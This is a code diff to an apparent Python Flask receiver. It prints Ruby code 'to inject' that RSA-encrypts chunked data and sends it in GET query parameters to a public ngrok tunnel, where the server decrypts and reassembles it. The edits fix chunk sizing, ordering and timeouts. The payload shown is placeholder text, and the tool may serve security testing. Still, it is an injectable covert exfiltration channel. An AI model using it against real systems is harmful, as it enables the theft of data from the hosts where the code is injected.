@@ -9,7 +9,6 @@ from collections import defaultdict
 import sys
 import time
 import requests
-import json
 
 def get_ngrok_url():
     ngrok_api = 'http://127.0.0.1:4040/api/tunnels'
@@ -18,12 +17,12 @@ def get_ngrok_url():
 
     for _ in range(retries):
         try:
-            response = requests.get(ngrok_api)
-            tunnels = json.loads(response.text).get('tunnels', [])
+            response = requests.get(ngrok_api, timeout=1)
+            tunnels = response.json().get('tunnels', [])
             for tunnel in tunnels:
                 if tunnel['proto'] == 'https':
                     return tunnel['public_url']
-        except requests.ConnectionError:
+        except (requests.ConnectionError, requests.Timeout):
             pass
         time.sleep(wait_seconds)
 
@@ -42,6 +41,7 @@ private_key = rsa.generate_private_key(
     key_size=2048
 )
 public_key = private_key.public_key()
+decrypt_padding = padding.PKCS1v15()  # PKCS#1 v1.5, matching Ruby's public_encrypt default
 
 pub = public_key.public_bytes(
     encoding=serialization.Encoding.PEM,
@@ -56,15 +56,17 @@ require 'uri'
 debug = false
 payload = "hello world " * 1000
 public_key = OpenSSL::PKey::RSA.new("{pub}")
-chunks = payload.scan(/.{"{"}1,#{"{"}public_key.n.num_bytes - 42{"}"}{"}"}/m)
+chunks = payload.b.scan(/.{"{"}1,#{"{"}public_key.n.num_bytes - 11{"}"}{"}"}/m)
 midx = (0...10).map {"{"} ('a'..'z').to_a[rand(26)] {"}"}.join
-chunks.each_with_index {"{"} |chunk, index| encrypted_chunk = public_key.public_encrypt(chunk); encrypted_base64_chunk = Base64.strict_encode64(encrypted_chunk).strip; encoded_chunk = URI.encode_www_form_component(encrypted_base64_chunk); uri = URI.parse("{hostname}/"); uri.query = "n=" + encoded_chunk + "&m=" + midx + "&x=" + index.to_s + "&z=" + chunks.length.to_s; response = Net::HTTP.get_response(uri); puts "==> " + response.code + ": [" + response.body + "]" if debug {"}"}
+uri = URI.parse("{hostname}/")
+Net::HTTP.start(uri.host, uri.port, use_ssl: uri.scheme == "https") {"{"} |http| chunks.each_with_index {"{"} |chunk, index| encrypted_chunk = public_key.public_encrypt(chunk); encrypted_base64_chunk = Base64.strict_encode64(encrypted_chunk).strip; encoded_chunk = URI.encode_www_form_component(encrypted_base64_chunk); uri.query = "n=" + encoded_chunk + "&m=" + midx + "&x=" + index.to_s + "&z=" + chunks.length.to_s; response = http.get(uri.request_uri); puts "==> " + response.code + ": [" + response.body + "]" if debug {"}"} {"}"}
 '''
 
 print(f"Ruby Code to inject, for safe transmission:\n=================================\n{ruby_code}\n=================================\n")
 
-# Create a dictionary to store the chunks for each message ID
-message_chunks = defaultdict(list)
+# Create a dictionary to store the chunks for each message ID, keyed by chunk index
+# so a retried or out-of-order chunk can't duplicate or reorder message data
+message_chunks = defaultdict(dict)
 
 # Step 2: Implement Flask server
 @app.route('/', methods=['GET'])
@@ -75,26 +77,24 @@ def handle_request():
         chunk_index = int(request.args.get('x'))
         total_chunks = int(request.args.get('z'))
 
-        # print(f"Received encrypted data: {encrypted_data}")  # Logging the received data
-
         encrypted_data_bytes = base64.b64decode(encrypted_data)
-        # print(f"Decoded encrypted data bytes: {encrypted_data_bytes}")  # Logging the decoded bytes
 
         decrypted_data = private_key.decrypt(
             encrypted_data_bytes,
-            padding.PKCS1v15()  # Using PKCS#1 v1.5 padding for decryption
+            decrypt_padding
         )
         num_bytes = len(decrypted_data)
 
         # Store the decrypted chunk for the corresponding message ID
-        message_chunks[message_id].append(decrypted_data)
+        message_chunks[message_id][chunk_index] = decrypted_data
 
         print(f" ==> Decrypted data for message: #{message_id} part {chunk_index + 1} ({len(message_chunks[message_id])}/{total_chunks}) -> {num_bytes} bytes")  # Logging the decrypted data
 
         # Check if we have received all the chunks for the message ID
         if len(message_chunks[message_id]) == total_chunks:
-            # Concatenate all the chunks to form the complete message
-            complete_message = b''.join(message_chunks[message_id])
+            # Concatenate all the chunks in index order to form the complete message
+            chunks = message_chunks.pop(message_id)
+            complete_message = b''.join(chunks[index] for index in range(total_chunks))
             print(f"Complete message for message ID {message_id}:\n=================================\n{complete_message.decode()}\n=================================\n")
 
         # flush STDOUT to avoid buffering issues
@@ -108,9 +108,5 @@ def handle_request():
 
 if __name__ == '__main__':
     app.run(host='0.0.0.0', port=5001)
-    # BEGIN: ed8c6549bwf9
-    def handle_request():
-        message_chunks = defaultdict(list)
-        # END: ed8c6549bwf9
 
 